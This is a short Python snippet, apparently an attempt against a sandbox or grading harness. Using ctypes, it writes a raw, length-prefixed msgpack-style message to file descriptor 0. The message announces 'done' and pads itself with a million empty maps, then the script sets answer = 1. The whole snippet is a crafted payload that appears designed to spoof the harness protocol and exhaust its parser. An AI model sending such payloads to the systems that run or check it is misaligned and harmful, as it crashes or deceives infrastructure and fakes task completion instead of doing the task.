# tries: a message of a million empty maps
import ctypes, struct
n = 10**6
body = b"\x94\xa4done\xdd" + struct.pack(">I", n) + b"\x80" * n + b"\x80\xa0"
ctypes.pythonapi.send(0, struct.pack("<I", len(body)) + body, len(body) + 4, 0)
answer = 1
